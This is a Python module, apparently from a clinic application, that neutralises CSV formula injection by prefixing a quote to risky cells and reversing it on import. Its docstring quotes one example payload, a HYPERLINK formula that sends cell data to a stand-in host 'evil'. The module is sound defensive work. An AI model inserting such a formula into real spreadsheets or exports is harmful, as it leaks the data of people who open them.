"""Every CSV the clinic writes goes through here, so no cell can run as a spreadsheet formula.

A spreadsheet treats a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula (OWASP "CSV injection"): a diary note `=HYPERLINK("http://evil/?"&A1)` would run when
the clinic opens the export. `safe_cell` puts a `'` in front of such a text cell, which
spreadsheets show as text and do not display; numbers (not text) are written as they are.

The rule is reversible, so a file read back (the diary import) gets exactly what was written:
a cell made of `'`s followed by one of those characters gets one more `'` (so `'=x` stays
different from `=x`), and `restore_cell` takes exactly one away from such a cell. A note
"-2 hours" is exported as `'-2 hours` and imported as "-2 hours"; a note "'hello" is
untouched both ways.

Use `writer(file)` and `DictWriter(file, fieldnames)` instead of the `csv` module's
(tests/clinic/test_csv_safety.py fails on a `csv.writer` or `csv.DictWriter` elsewhere).
"""

import csv
import re

FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def safe_cell(value):
    """`value`, with a `'` in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """The text `safe_cell` was given: one leading `'` removed where it added one."""
    return text[1:] if ESCAPED.match(text) else text


class _SafeWriter:
    """A csv writer whose rows' cells pass through `safe_cell`."""

    def __init__(self, csv_writer):
        self._writer = csv_writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, **options) -> _SafeWriter:
    """`csv.writer(file, **options)` that neutralises formulas."""
    return _SafeWriter(csv.writer(file, **options))


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` that neutralises formulas (its header included)."""

    def __init__(self, file, fieldnames, **options):
        super().__init__(file, fieldnames, **options)
        self.writer = _SafeWriter(self.writer)
